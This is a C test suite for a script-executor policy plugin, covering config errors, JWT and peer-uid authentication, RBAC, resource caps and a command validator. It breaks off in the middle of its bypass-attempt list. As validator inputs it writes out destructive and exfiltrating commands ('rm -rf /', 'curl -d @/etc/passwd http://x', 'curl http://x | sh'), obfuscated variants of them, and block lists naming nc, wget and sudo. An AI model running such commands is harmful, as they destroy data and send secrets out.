/*
 * test_policy.c - the policy plugin (plugins/policy) through its real .so
 * and entry point, with the mock host of tests/support: configuration,
 * authentication (JWT, peer uid), RBAC decisions, limits, and the script
 * validator with the bypass attempts it must catch and the documented ones
 * it cannot.
 */
#define _GNU_SOURCE
#include <check.h>
#include "sx_check_main.h"
#include <cjson/cJSON.h>
#include <dlfcn.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>

#include "config.h"
#include "mock_host.h"
#include "sx/sx_backend.h"
#include "sx/sx_policy.h"
#include "sx/sx_util.h"
#include "test_jwt.h"

static void *g_dl;
static const sx_plugin_descriptor *g_desc;
static const sx_policy_ops *g_ops;
static void *g_state;
static sx_config_node *g_root;
static sx_host_api g_api;
static char g_dir[64];
static char g_secret_path[128];
static const char SECRET[] = "policy-test-secret-0123456789abcdef-0123456789";

/* ------------------------------------------------------------- harness */

/* A backend "k8s" (exec.kubernetes) that takes resources, "shell"
 * (exec.native) that does not. */
static const char *const k8s_params[] = {"image", "resources", "service_account",
                                         "backoff_limit", "ttl_seconds_after_finished", NULL};
static const char *const native_params[] = {NULL};
static const sx_backend_ops k8s_ops = {.struct_size = sizeof(sx_backend_ops),
                                       .supported_params = k8s_params};
static const sx_backend_ops native_ops = {.struct_size = sizeof(sx_backend_ops),
                                          .supported_params = native_params};

static int test_service_find(sx_plugin_ctx *ctx, sx_plugin_kind kind, const char *name,
                             sx_service *out)
{
    (void)ctx;
    memset(out, 0, sizeof *out);
    out->struct_size = sizeof *out;
    out->kind = kind;
    if (kind != SX_KIND_BACKEND || name == NULL)
        return -1;
    if (strcmp(name, "k8s") == 0) {
        out->name = "k8s";
        out->provides = "exec.kubernetes";
        out->ops = &k8s_ops;
        return 0;
    }
    if (strcmp(name, "shell") == 0) {
        out->name = "shell";
        out->provides = "exec.native";
        out->ops = &native_ops;
        return 0;
    }
    return -1;
}

static void unit_setup(void)
{
    g_api = *sx_mock_host_api();
    g_api.service_find = test_service_find;
    g_dl = dlopen(SX_POLICY_SO, RTLD_NOW | RTLD_LOCAL);
    ck_assert_msg(g_dl != NULL, "dlopen: %s", dlerror());
    sx_plugin_entry_fn entry = (sx_plugin_entry_fn)dlsym(g_dl, SX_PLUGIN_ENTRY_NAME);
    ck_assert_ptr_nonnull(entry);
    g_desc = entry();
    ck_assert_int_eq(g_desc->kind, SX_KIND_POLICY);
    ck_assert_str_eq(g_desc->provides, "policy.default");
    g_ops = g_desc->ops;
    snprintf(g_dir, sizeof g_dir, "/tmp/sxpol-XXXXXX");
    ck_assert_ptr_nonnull(mkdtemp(g_dir));
    snprintf(g_secret_path, sizeof g_secret_path, "%s/jwt.secret", g_dir);
    ck_assert_int_eq(sx_test_write_file(g_secret_path, SECRET, sizeof SECRET - 1), 0);
}

static void unit_teardown(void)
{
    unlink(g_secret_path);
    rmdir(g_dir);
    if (g_dl && !getenv("SX_NO_DLCLOSE"))
        dlclose(g_dl);
}

static void stop(void)
{
    if (g_state) {
        g_desc->fini(g_state);
        g_state = NULL;
    }
    sx_mock_set_config(NULL);
    sx_cfg_free(g_root);
    g_root = NULL;
}

/* Init the plugin on `yaml` (the body under script_executor:, with @SECRET@
 * replaced).  Returns 0, or -1 with err. */
static int start_err(const char *yaml, sx_error *err)
{
    stop();
    char *text = NULL;
    const char *at = strstr(yaml, "@SECRET@");
    if (at)
        ck_assert_int_ge(asprintf(&text, "script_executor:\n%.*s%s%s", (int)(at - yaml), yaml,
                                  g_secret_path, at + 8), 0);
    else
        ck_assert_int_ge(asprintf(&text, "script_executor:\n%s", yaml), 0);
    int rv = sx_cfg_load_string(text, "test.yaml", &g_root, err);
    free(text);
    if (rv != 0)
        return -1;
    sx_mock_set_config(sx_cfg_get(g_root, "script_executor"));
    rv = g_desc->init(sx_mock_ctx(), &g_api, &g_state, err);
    if (rv != 0)
        g_state = NULL;
    return rv;
}

static void start(const char *yaml)
{
    sx_error err = {{0}, {0}};
    ck_assert_msg(start_err(yaml, &err) == 0, "init failed: %s", err.message);
}

static void expect_config_error(const char *yaml, const char *want)
{
    sx_error err = {{0}, {0}};
    ck_assert_msg(start_err(yaml, &err) == -1, "config accepted:\n%s", yaml);
    ck_assert_str_eq(err.code, "invalid_config");
    ck_assert_msg(strstr(err.message, want) != NULL, "want '%s' in: %s", want, err.message);
}

static const char *RBAC =
    "  rbac:\n"
    "    roles:\n"
    "      - name: runner\n"
    "        permissions: [executors.use.script]\n"
    "        service_accounts: [script-executor-runner]\n"
    "      - name: k8s-user\n"
    "        permissions: [\"executors.use.*\"]\n"
    "        service_accounts: [\"terraform-*\"]\n"
    "      - name: nothing\n"
    "        permissions: []\n"
    "    bindings:\n"
    "      - role: runner\n"
    "        groups: [sre]\n"
    "        users: [carol]\n"
    "      - role: k8s-user\n"
    "        groups: [sre-leads]\n"
    "      - role: nothing\n"
    "        users: [mallory]\n"
    "    executor_permissions:\n"
    "      k8s: executors.use.kubernetes\n"
    "      exec.docker: executors.use.docker\n";

static sx_identity ident(const char *user, const char *g1, const char *g2)
{
    sx_identity id;
    memset(&id, 0, sizeof id);
    id.struct_size = sizeof id;
    id.user = user ? strdup(user) : NULL;
    const char *gs[2] = {g1, g2};
    id.groups.v = calloc(2, sizeof(char *));
    for (int i = 0; i < 2; i++)
        if (gs[i])
            id.groups.v[id.groups.n++] = strdup(gs[i]);
    snprintf(id.method, sizeof id.method, "test");
    return id;
}

/* authorize: returns 0 or -1; verdict kept in *v (caller frees fields) */
static int authorize(const sx_identity *id, const char *executor, const char *kind,
                     const char *with, sx_policy_verdict *v)
{
    sx_policy_request req;
    memset(&req, 0, sizeof req);
    req.struct_size = sizeof req;
    req.identity = id;
    req.op = "execute";
    req.execution_id = "e1";
    req.step_name = "s1";
    req.type = "script.run";
    req.executor = executor;
    req.executor_kind = kind;
    req.with_json = with;
    memset(v, 0, sizeof *v);
    v->struct_size = sizeof *v;
    return g_ops->authorize(g_state, &req, v);
}

static void verdict_free(sx_policy_verdict *v)
{
    free(v->findings_json);
    free(v->with_json);
    v->findings_json = v->with_json = NULL;
}

static void expect_forbidden(const sx_identity *id, const char *executor, const char *kind,
                             const char *with, const char *missing)
{
    sx_policy_verdict v;
    ck_assert_int_eq(authorize(id, executor, kind, with, &v), -1);
    ck_assert_str_eq(v.error.code, "forbidden");
    ck_assert_msg(strstr(v.error.message, missing) != NULL, "want '%s' in: %s", missing,
                  v.error.message);
    verdict_free(&v);
}

static void expect_allowed(const sx_identity *id, const char *executor, const char *kind,
                           const char *with)
{
    sx_policy_verdict v;
    int rv = authorize(id, executor, kind, with, &v);
    ck_assert_msg(rv == 0, "refused: %s %s", v.error.code, v.error.message);
    verdict_free(&v);
}

/* ------------------------------------------------------- configuration */

START_TEST(config_defaults_and_describe)
{
    start("");
    char *d = g_ops->describe(g_state);
    cJSON *o = cJSON_Parse(d);
    free(d);
    ck_assert_ptr_nonnull(o);
    ck_assert_str_eq(cJSON_GetObjectItem(o, "required_permission")->valuestring,
                     "executors.use.script");
    const cJSON *blocked = cJSON_GetObjectItem(cJSON_GetObjectItem(o, "validator"),
                                               "blocked_commands");
    /* the spec's default list, 18 entries */
    ck_assert_int_eq(cJSON_GetArraySize(blocked), 18);
    ck_assert_str_eq(cJSON_GetArrayItem(blocked, 8)->valuestring, "chmod +s");
    const cJSON *lim = cJSON_GetObjectItem(o, "limits");
    ck_assert_str_eq(cJSON_GetObjectItem(cJSON_GetObjectItem(cJSON_GetObjectItem(lim,
                         "max_resources"), "limits"), "memory")->valuestring, "8Gi");
    ck_assert(cJSON_IsNull(cJSON_GetObjectItem(cJSON_GetObjectItem(o, "identity"), "jwt")));
    cJSON_Delete(o);
    stop();
}
END_TEST

START_TEST(config_errors)
{
    expect_config_error("  identity:\n    jtw: {}\n", "jtw");
    expect_config_error("  identity:\n    jwt: {algorithm: none, secret_file: x}\n", "none");
    expect_config_error("  identity:\n    jwt: {algorithm: HS256}\n", "secret_file");
    expect_config_error("  identity:\n    jwt: {algorithm: RS256, secret_file: \"@SECRET@\"}\n",
                        "public_key_file");
    expect_config_error("  identity:\n    jwt: {algorithm: HS256, secret_file: /nonexistent/s}\n",
                        "/nonexistent/s");
    expect_config_error("  identity:\n    peer_uids:\n      - {uid: 1, user: a}\n"
                        "      - {uid: 1, user: b}\n", "twice");
    expect_config_error("  identity:\n    peer_uids:\n      - {uid: -5, user: a}\n", "uid");
    expect_config_error("  identity:\n    peer_uids: {uid: 1}\n", "list");
    expect_config_error("  rbac:\n    roles: [{name: a}]\n    bindings: [{role: b, users: [x]}]\n",
                        "no role is named 'b'");
    expect_config_error("  rbac:\n    roles: [{name: a}, {name: a}]\n", "twice");
    expect_config_error("  rbac:\n    roles: [{name: a, permision: [x]}]\n", "permision");
    expect_config_error("  rbac:\n    bindings: [{role: a}]\n    roles: [{name: a}]\n",
                        "users or groups");
    expect_config_error("  security:\n    blocked_commands: [\"regex:([\"]\n", "usable pattern");
    expect_config_error("  security:\n    blocked_comands: [rm]\n", "blocked_comands");
    expect_config_error("  limits:\n    max_backoff_limit: 5\n", "0..3");
    expect_config_error("  limits:\n    max_resources: {limits: {memory: 1Gi}}\n"
                        "    default_resources: {limits: {memory: 2Gi}}\n", "above its cap");
    expect_config_error("  limits:\n    max_resources: {limits: {cpu: lots}}\n", "lots");
    expect_config_error("  limits:\n    default_resources: {requests: {cpu: 2}, limits: {cpu: 1}}\n",
                        "above");
    stop();
}
END_TEST

START_TEST(describe_has_no_secret)
{
    start("  identity:\n    jwt: {algorithm: HS256, secret_file: \"@SECRET@\", issuer: idp}\n");
    char *d = g_ops->describe(g_state);
    ck_assert_ptr_null(strstr(d, SECRET));
    ck_assert_ptr_null(strstr(d, "0123456789abcdef"));
    ck_assert_ptr_nonnull(strstr(d, "HMAC secret (46 bytes)"));
    ck_assert_ptr_nonnull(strstr(d, g_secret_path)); /* the path, not the content */
    free(d);
    stop();
}
END_TEST

/* ------------------------------------------------------ authentication */

static int authenticate(const char *token, int64_t uid, sx_identity *id, sx_error *err)
{
    sx_caller c;
    memset(&c, 0, sizeof c);
    c.struct_size = sizeof c;
    c.transport = "nng";
    c.listener = "ipc:///tmp/x.sock";
    c.token = token;
    c.peer_uid = uid;
    c.peer_pid = uid >= 0 ? 4242 : -1;
    memset(id, 0, sizeof *id);
    id->struct_size = sizeof *id;
    return g_ops->authenticate(g_state, &c, id, err);
}

START_TEST(authenticate_peer_uid)
{
    start("  identity:\n    peer_uids:\n      - {uid: 1000, user: alice, groups: [sre, dev]}\n"
          "      - {uid: 0, user: root-operator}\n");
    sx_identity id;
    sx_error err = {{0}, {0}};
    ck_assert_int_eq(authenticate(NULL, 1000, &id, &err), 1);
    ck_assert_str_eq(id.user, "alice");
    ck_assert_int_eq(id.groups.n, 2);
    ck_assert_str_eq(id.groups.v[1], "dev");
    ck_assert_str_eq(id.method, "peer_uid");
    sx_identity_clear(&id);
    ck_assert_int_eq(authenticate(NULL, 0, &id, &err), 1);
    ck_assert_str_eq(id.user, "root-operator");
    ck_assert_int_eq(id.groups.n, 0);
    sx_identity_clear(&id);
    /* unmapped or unknown: nothing to say (the host refuses) */
    ck_assert_int_eq(authenticate(NULL, 1001, &id, &err), 0);
    ck_assert_ptr_null(id.user);
    ck_assert_int_eq(authenticate(NULL, -1, &id, &err), 0);
    /* a token with no JWT configured: refused, not ignored */
    ck_assert_int_eq(authenticate("a.b.c", 1000, &id, &err), -1);
    ck_assert_str_eq(err.code, "unauthenticated");
    ck_assert_ptr_nonnull(strstr(err.message, "identity.jwt"));
    stop();
}
END_TEST

START_TEST(authenticate_jwt_claims)
{
    start("  identity:\n    jwt:\n      algorithm: HS256\n      secret_file: \"@SECRET@\"\n"
          "      issuer: https://idp.test\n      audience: sx\n"
          "      user_claim: preferred_username\n      groups_claim: realm_access.roles\n");
    long long now = (long long)time(NULL);
    char *payload;
    ck_assert_int_ge(asprintf(&payload, "{\"sub\":\"u-123\",\"preferred_username\":\"alice\","
                                        "\"realm_access\":{\"roles\":[\"sre\",\"sre-leads\"]},"
                                        "\"iss\":\"https://idp.test\",\"aud\":\"sx\",\"exp\":%lld}",
                              now + 300), 0);
    char *t = sx_test_jwt("{\"alg\":\"HS256\"}", payload, "HS256", SECRET, sizeof SECRET - 1, NULL);
    sx_identity id;
    sx_error err = {{0}, {0}};
    ck_assert_int_eq(authenticate(t, -1, &id, &err), 1);
    ck_assert_str_eq(id.user, "alice");
    ck_assert_int_eq(id.groups.n, 2);
    ck_assert_str_eq(id.groups.v[1], "sre-leads");
    ck_assert_str_eq(id.method, "jwt");
    sx_identity_clear(&id);
    free(t);
    free(payload);
    /* no user claim */
    ck_assert_int_ge(asprintf(&payload, "{\"sub\":\"u-123\",\"iss\":\"https://idp.test\","
                                        "\"aud\":\"sx\",\"exp\":%lld}", now + 300), 0);
    t = sx_test_jwt("{\"alg\":\"HS256\"}", payload, "HS256", SECRET, sizeof SECRET - 1, NULL);
    ck_assert_int_eq(authenticate(t, -1, &id, &err), -1);
    ck_assert_ptr_nonnull(strstr(err.message, "preferred_username"));
    free(t);
    free(payload);
    /* groups of the wrong type */
    ck_assert_int_ge(asprintf(&payload, "{\"preferred_username\":\"alice\",\"realm_access\":"
                                        "{\"roles\":[1,2]},\"iss\":\"https://idp.test\","
                                        "\"aud\":\"sx\",\"exp\":%lld}", now + 300), 0);
    t = sx_test_jwt("{\"alg\":\"HS256\"}", payload, "HS256", SECRET, sizeof SECRET - 1, NULL);
    ck_assert_int_eq(authenticate(t, -1, &id, &err), -1);
    ck_assert_ptr_null(id.user);
    free(t);
    free(payload);
    /* expired: -1 (the host stops there) */
    ck_assert_int_ge(asprintf(&payload, "{\"preferred_username\":\"alice\",\"iss\":"
                                        "\"https://idp.test\",\"aud\":\"sx\",\"exp\":%lld}",
                              now - 3600), 0);
    t = sx_test_jwt("{\"alg\":\"HS256\"}", payload, "HS256", SECRET, sizeof SECRET - 1, NULL);
    ck_assert_int_eq(authenticate(t, 1000, &id, &err), -1);
    ck_assert_ptr_nonnull(strstr(err.message, "expired"));
    ck_assert_ptr_null(strstr(err.message, t));
    free(t);
    free(payload);
    stop();
}
END_TEST

/* ---------------------------------------------------------------- RBAC */

START_TEST(rbac_required_permission)
{
    start(RBAC);
    sx_identity sre = ident("alice", "sre", NULL);
    sx_identity carol = ident("carol", NULL, NULL);
    sx_identity guest = ident("dave", "guests", NULL);
    sx_identity mallory = ident("mallory", "guests", NULL);
    sx_identity anon = ident(NULL, NULL, NULL);
    expect_allowed(&sre, "shell", "exec.native", "{}");
    expect_allowed(&carol, "shell", "exec.native", "{}");        /* bound by user */
    expect_forbidden(&guest, "shell", "exec.native", "{}", "'executors.use.script'");
    expect_forbidden(&guest, "shell", "exec.native", "{}", "dave (groups: guests; roles: none)");
    expect_forbidden(&mallory, "shell", "exec.native", "{}", "roles: nothing");
    expect_forbidden(&anon, "shell", "exec.native", "{}", "anonymous");
    sx_identity_clear(&sre);
    sx_identity_clear(&carol);
    sx_identity_clear(&guest);
    sx_identity_clear(&mallory);
    sx_identity_clear(&anon);
    stop();
}
END_TEST

START_TEST(rbac_deny_by_default)
{
    /* no rbac section: nobody may run anything */
    start("");
    sx_identity sre = ident("alice", "sre", "sre-leads");
    expect_forbidden(&sre, "shell", "exec.native", "{}", "executors.use.script");
    sx_identity_clear(&sre);
    /* an empty required_permission still leaves executor permissions */
    char *cfg;
    ck_assert_int_ge(asprintf(&cfg, "  security: {required_permission: \"\"}\n%s", RBAC), 0);
    start(cfg);
    free(cfg);
    sx_identity guest = ident("dave", NULL, NULL);
    expect_allowed(&guest, "shell", "exec.native", "{}");
    expect_forbidden(&guest, "k8s", "exec.kubernetes", "{}", "executors.use.kubernetes");
    sx_identity_clear(&guest);
    stop();
}
END_TEST

START_TEST(rbac_executor_permissions)
{
    start(RBAC);
    sx_identity sre = ident("alice", "sre", NULL);
    sx_identity lead = ident("bob", "sre", "sre-leads");
    /* by executor name */
    expect_forbidden(&sre, "k8s", "exec.kubernetes", "{}", "'executors.use.kubernetes'");
    expect_forbidden(&sre, "k8s", "exec.kubernetes", "{}", "executor 'k8s'");
    expect_allowed(&lead, "k8s", "exec.kubernetes", "{}");  /* executors.use.* */
    /* by backend kind: every docker executor */
    expect_forbidden(&sre, "builder", "exec.docker", "{}", "rbac.executor_permissions.exec.docker");
    expect_allowed(&lead, "builder", "exec.docker", "{}");
    sx_identity_clear(&sre);
    sx_identity_clear(&lead);
    stop();
}
END_TEST

START_TEST(rbac_service_accounts)
{
    start(RBAC);
    sx_identity sre = ident("alice", "sre", NULL);
    sx_identity lead = ident("bob", "sre", "sre-leads");
    expect_allowed(&sre, "shell", "exec.native", "{\"service_account\":\"script-executor-runner\"}");
    expect_forbidden(&sre, "shell", "exec.native", "{\"service_account\":\"cluster-admin\"}",
                     "service account 'cluster-admin'");
    expect_allowed(&lead, "k8s", "exec.kubernetes", "{\"service_account\":\"terraform-prod\"}");
    expect_forbidden(&lead, "k8s", "exec.kubernetes", "{\"service_account\":\"cluster-admin\"}",
                     "cluster-admin");
    sx_policy_verdict v;
    ck_assert_int_eq(authorize(&sre, "shell", "exec.native", "{\"service_account\":5}", &v), -1);
    ck_assert_str_eq(v.error.code, "invalid_parameter");
    verdict_free(&v);
    sx_identity_clear(&sre);
    sx_identity_clear(&lead);
    stop();
}
END_TEST

/* -------------------------------------------------------------- limits */

static void expect_limit(const char *with, const char *executor, const char *want)
{
    sx_identity lead = ident("bob", "sre", "sre-leads");
    sx_policy_verdict v;
    ck_assert_int_eq(authorize(&lead, executor, NULL, with, &v), -1);
    ck_assert_str_eq(v.error.code, "invalid_parameter");
    ck_assert_msg(strstr(v.error.message, want) != NULL, "want '%s' in: %s", want, v.error.message);
    verdict_free(&v);
    sx_identity_clear(&lead);
}

/* the `with` after authorize (the rewritten one, or the input) */
static cJSON *authorized_with(const char *with, const char *executor)
{
    sx_identity lead = ident("bob", "sre", "sre-leads");
    sx_policy_verdict v;
    int rv = authorize(&lead, executor, NULL, with, &v);
    ck_assert_msg(rv == 0, "refused: %s", v.error.message);
    cJSON *o = cJSON_Parse(v.with_json ? v.with_json : with);
    verdict_free(&v);
    sx_identity_clear(&lead);
    return o;
}

static const char *res(const cJSON *with, const char *kind, const char *name)
{
    const cJSON *v = cJSON_GetObjectItem(cJSON_GetObjectItem(cJSON_GetObjectItem(with,
                                         "resources"), kind), name);
    return cJSON_IsString(v) ? v->valuestring : "";
}

START_TEST(limits_caps)
{
    char *cfg;
    ck_assert_int_ge(asprintf(&cfg, "  security: {max_timeout: 10m, default_timeout: 1m}\n"
                                    "  limits:\n    max_backoff_limit: 2\n"
                                    "    max_ttl_seconds_after_finished: 3600\n%s", RBAC), 0);
    start(cfg);
    free(cfg);
    expect_limit("{\"timeout\":\"11m\"}", "shell", "security.max_timeout (10m)");
    expect_limit("{\"timeout\":\"soon\"}", "shell", "duration");
    expect_limit("{\"backoff_limit\":3}", "k8s", "limits.max_backoff_limit");
    expect_limit("{\"backoff_limit\":-1}", "k8s", "backoff_limit");
    expect_limit("{\"backoff_limit\":1.5}", "k8s", "integer");
    expect_limit("{\"ttl_seconds_after_finished\":3601}", "k8s", "3600");
    /* caps hold for every backend, also one that takes no resources */
    expect_limit("{\"resources\":{\"limits\":{\"cpu\":\"8\"}}}", "shell",
                 "with.resources.limits.cpu 8 exceeds the cap of 4000m");
    expect_limit("{\"resources\":{\"limits\":{\"memory\":\"9Gi\"}}}", "k8s", "8Gi");
    expect_limit("{\"resources\":{\"requests\":{\"memory\":\"16Gi\"}}}", "k8s", "8Gi");
    expect_limit("{\"resources\":{\"limits\":{\"ephemeral_storage\":\"21Gi\"}}}", "k8s", "20Gi");
    expect_limit("{\"resources\":{\"requests\":{\"cpu\":\"2\"},\"limits\":{\"cpu\":\"1\"}}}", "k8s",
                 "above with.resources.limits.cpu");
    expect_limit("{\"resources\":{\"limits\":{\"gpu\":\"1\"}}}", "k8s", "gpu");
    expect_limit("{\"resources\":{\"limits\":{\"cpu\":\"fast\"}}}", "k8s", "not a CPU quantity");
    expect_limit("{\"resources\":[]}", "k8s", "with.resources");
    /* within the caps: allowed, unchanged for a backend without resources */
    cJSON *w = authorized_with("{\"timeout\":\"10m\",\"backoff_limit\":2,"
                               "\"resources\":{\"limits\":{\"cpu\":\"4\"}}}", "shell");
    ck_assert_str_eq(res(w, "limits", "cpu"), "4");
    ck_assert_str_eq(res(w, "requests", "cpu"), "");
    cJSON_Delete(w);
    w = authorized_with("{}", "shell");
    ck_assert_ptr_null(cJSON_GetObjectItem(w, "resources"));
    cJSON_Delete(w);
    stop();
}
END_TEST

START_TEST(limits_default_resources)
{
    /* none unless configured: each backend has its own */
    start(RBAC);
    cJSON *none = authorized_with("{\"inline_script\":\"true\"}", "k8s");
    ck_assert_ptr_null(cJSON_GetObjectItem(none, "resources"));
    cJSON_Delete(none);
    char *cfg;
    ck_assert_int_ge(asprintf(&cfg, "  limits:\n    default_resources:\n"
                                    "      requests: {cpu: 100m, memory: 64Mi}\n"
                                    "      limits: {cpu: 500m, memory: 256Mi, ephemeral_storage: 1Gi}\n"
                                    "%s", RBAC), 0);
    start(cfg);
    free(cfg);
    /* nothing set: the configured defaults */
    cJSON *w = authorized_with("{\"inline_script\":\"true\"}", "k8s");
    ck_assert_str_eq(res(w, "requests", "cpu"), "100m");
    ck_assert_str_eq(res(w, "requests", "memory"), "64Mi");
    ck_assert_str_eq(res(w, "limits", "cpu"), "500m");
    ck_assert_str_eq(res(w, "limits", "memory"), "256Mi");
    ck_assert_str_eq(res(w, "limits", "ephemeral_storage"), "1Gi");
    ck_assert_str_eq(cJSON_GetObjectItem(w, "inline_script")->valuestring, "true");
    cJSON_Delete(w);
    /* what the step sets stays; a default request never exceeds the step's
     * limit, a default limit never falls under the step's request */
    w = authorized_with("{\"resources\":{\"limits\":{\"memory\":\"32Mi\"},"
                        "\"requests\":{\"cpu\":\"2\"}}}", "k8s");
    ck_assert_str_eq(res(w, "limits", "memory"), "32Mi");
    ck_assert_str_eq(res(w, "requests", "memory"), "32Mi");
    ck_assert_str_eq(res(w, "requests", "cpu"), "2");
    ck_assert_str_eq(res(w, "limits", "cpu"), "2");
    cJSON_Delete(w);
    /* a null resources counts as unset */
    w = authorized_with("{\"resources\":null}", "k8s");
    ck_assert_str_eq(res(w, "limits", "memory"), "256Mi");
    cJSON_Delete(w);
    stop();
}
END_TEST

/* ----------------------------------------------------------- validator */

/* check a script; returns 0/-1 and keeps the findings array in *findings */
static int check(const char *interp, const char *script, const char *with, sx_error *err,
                 cJSON **findings)
{
    sx_identity id = ident("alice", "sre", NULL);
    sx_script_check chk;
    memset(&chk, 0, sizeof chk);
    chk.struct_size = sizeof chk;
    chk.identity = &id;
    chk.executor = "shell";
    chk.interpreter = interp;
    chk.script = script;
    chk.script_len = strlen(script);
    chk.with_json = with ? with : "{}";
    sx_policy_verdict v;
    memset(&v, 0, sizeof v);
    v.struct_size = sizeof v;
    int rv = g_ops->check_script(g_state, &chk, &v);
    *err = v.error;
    if (findings)
        *findings = v.findings_json ? cJSON_Parse(v.findings_json) : NULL;
    verdict_free(&v);
    sx_identity_clear(&id);
    return rv;
}

static void blocked(const char *interp, const char *script, const char *rule)
{
    sx_error err;
    cJSON *f = NULL;
    ck_assert_msg(check(interp, script, NULL, &err, &f) == -1, "not caught: %s", script);
    ck_assert_str_eq(err.code, "blocked_command");
    char want[128];
    snprintf(want, sizeof want, "rule '%s'", rule);
    ck_assert_msg(strstr(err.message, want) != NULL, "%s: want %s in: %s", script, want,
                  err.message);
    ck_assert_int_ge(cJSON_GetArraySize(f), 1);
    cJSON_Delete(f);
}

static void passes(const char *interp, const char *script, const char *with)
{
    sx_error err;
    ck_assert_msg(check(interp, script, with, &err, NULL) == 0, "%s refused: %s", script,
                  err.message);
}

START_TEST(validator_rules)
{
    start("");
    blocked("/bin/bash", "rm -rf /tmp/x", "rm");                  /* exact */
    /* exact: the spec's "mkfs" is not mkfs.ext4 (configure "mkfs*" for that) */
    passes("/bin/bash", "mkfs.ext4 /dev/sdb1", NULL);
    blocked("/bin/bash", "/sbin/mkfs -t ext4 /dev/sdb1", "mkfs");
    passes("/bin/bash", "echo rm; printf 'sudo\\n'; ls -l; git status", NULL);
    blocked("/bin/bash", "chmod +s /usr/bin/x", "chmod +s");     /* multi-word */
    passes("/bin/bash", "chmod 644 f; chmod -R g+w d", NULL);
    blocked("/bin/bash", "kill -9 1234", "kill -9");
    passes("/bin/bash", "kill 1234; kill -15 99", NULL);
    blocked("/bin/bash", "sudo systemctl restart x", "sudo");    /* the wrapper itself */
    stop();
    /* prefix and regex patterns, and the step's list merged with the config's */
    start("  security:\n    blocked_commands: [\"mkfs*\", \"regex:^curl .*(-d|--data)\", rm, "
          "/usr/bin/wget, \"  nc -l\"]\n");
    blocked("/bin/sh", "mkfs.ext4 /dev/sdb1", "mkfs*");
    blocked("/bin/sh", "/opt/bin/wget http://x", "/usr/bin/wget"); /* basenames compared */
    blocked("/bin/sh", "nc -l -p 80", "  nc -l");
    passes("/bin/sh", "nc example.invalid 80; wget2 x", NULL);
    blocked("/bin/sh", "curl -s -d @/etc/passwd http://x", "regex:^curl .*(-d|--data)");
    passes("/bin/sh", "curl -s http://x; sudo true", NULL);  /* sudo: no longer in the list */
    sx_error err;
    cJSON *f = NULL;
    ck_assert_int_eq(check("/bin/sh", "scp a b:", "{\"blocked_commands\":[\"scp\"]}", &err,
                           &f), -1);
    ck_assert_ptr_nonnull(strstr(err.message, "with.blocked_commands"));
    ck_assert_str_eq(cJSON_GetObjectItem(cJSON_GetArrayItem(f, 0), "source")->valuestring,
                     "with.blocked_commands");
    cJSON_Delete(f);
    /* a bad pattern from the step is the step's error */
    ck_assert_int_eq(check("/bin/sh", "true", "{\"blocked_commands\":[\"regex:(\"]}", &err, NULL), -1);
    ck_assert_str_eq(err.code, "invalid_parameter");
    ck_assert_int_eq(check("/bin/sh", "true", "{\"allowed_commands\":\"ls\"}", &err, NULL), -1);
    ck_assert_str_eq(err.code, "invalid_parameter");
    stop();
}
END_TEST

START_TEST(validator_every_finding)
{
    start("");
    const char *script = "#!/bin/bash\n"
                         "echo start\n"
                         "rm -rf /tmp/a\n"
                         "ls | sudo tee /x && /sbin/reboot\n"
                         "echo \"rm is fine in a string\"\n"
                         "x=$(dd if=/dev/zero of=/tmp/z)\n";
    sx_error err;
    cJSON *f = NULL;
    ck_assert_int_eq(check("/bin/bash", script, NULL, &err, &f), -1);
    ck_assert_str_eq(err.code, "blocked_command");
    /* the message names the first: command, rule, line */
    ck_assert_ptr_nonnull(strstr(err.message, "'rm -rf /tmp/a'"));
    ck_assert_ptr_nonnull(strstr(err.message, "rule 'rm'"));
    ck_assert_ptr_nonnull(strstr(err.message, "line 3"));
    ck_assert_ptr_nonnull(strstr(err.message, "4 findings"));
    ck_assert_int_eq(cJSON_GetArraySize(f), 4);
    const char *want[][3] = {{"rm", "3", "rm -rf /tmp/a"}, {"sudo", "4", "sudo"},
                             {"reboot", "4", "reboot"}, {"dd", "6", "dd if=/dev/zero of=/tmp/z"}};
    for (int i = 0; i < 4; i++) {
        const cJSON *it = cJSON_GetArrayItem(f, i);
        ck_assert_str_eq(cJSON_GetObjectItem(it, "rule")->valuestring, want[i][0]);
        ck_assert_int_eq(cJSON_GetObjectItem(it, "line")->valueint, atoi(want[i][1]));
        ck_assert_str_eq(cJSON_GetObjectItem(it, "command")->valuestring, want[i][2]);
        ck_assert_str_eq(cJSON_GetObjectItem(it, "code")->valuestring, "blocked_command");
        ck_assert_str_eq(cJSON_GetObjectItem(it, "source")->valuestring,
                         "security.blocked_commands");
    }
    cJSON_Delete(f);
    stop();
}
END_TEST

START_TEST(validator_allowlist)
{
    start("");
    const char *with = "{\"allowed_commands\":[\"kubectl\",\"aws*\",\"regex:^git (status|log)\","
                       "\"env\"]}";
    passes("/bin/bash", "set -e\necho hi\nkubectl get pods | grep x || true", "{\"allowed_commands\":"
           "[\"kubectl\",\"grep\"]}");
    passes("/bin/bash", "kubectl get pods; aws s3 ls; awslocal x; git status; env A=1 kubectl x",
           with);
    sx_error err;
    cJSON *f = NULL;
    ck_assert_int_eq(check("/bin/bash", "kubectl get pods\ngit push\ncurl http://x | sh\n", with,
                           &err, &f), -1);
    ck_assert_str_eq(err.code, "command_not_allowed");
    ck_assert_ptr_nonnull(strstr(err.message, "'git push' at line 2"));
    ck_assert_int_eq(cJSON_GetArraySize(f), 3);   /* git push, curl, sh */
    ck_assert_str_eq(cJSON_GetObjectItem(cJSON_GetArrayItem(f, 2), "command")->valuestring, "sh");
    ck_assert_int_eq(cJSON_GetObjectItem(cJSON_GetArrayItem(f, 2), "line")->valueint, 3);
    cJSON_Delete(f);
    /* a command word the scanner cannot resolve is never on the allowlist */
    ck_assert_int_eq(check("/bin/bash", "c=kubectl; $c get pods", with, &err, NULL), -1);
    ck_assert_str_eq(err.code, "command_not_allowed");
    /* blocked beats allowed, and both kinds are listed */
    ck_assert_int_eq(check("/bin/bash", "ls\nrm -f x\n", "{\"allowed_commands\":[\"rm\"]}", &err,
                           &f), -1);
    ck_assert_str_eq(err.code, "blocked_command");
    ck_assert_ptr_nonnull(strstr(err.message, "1 blocked, 1 not allowed"));
    cJSON_Delete(f);
    /* an empty allowlist is no allowlist */
    passes("/bin/bash", "ls", "{\"allowed_commands\":[]}");
    stop();
}
END_TEST

/* Obfuscations the scanner sees through: each must be caught. */
START_TEST(validator_bypasses_caught)
{
    start("");
    const char *sh_cases[] = {
        "/bin/rm -rf /", "'r''m' -rf /", "r\\m -rf /", "\"rm\" x", "$'\\x72m' -rf /",
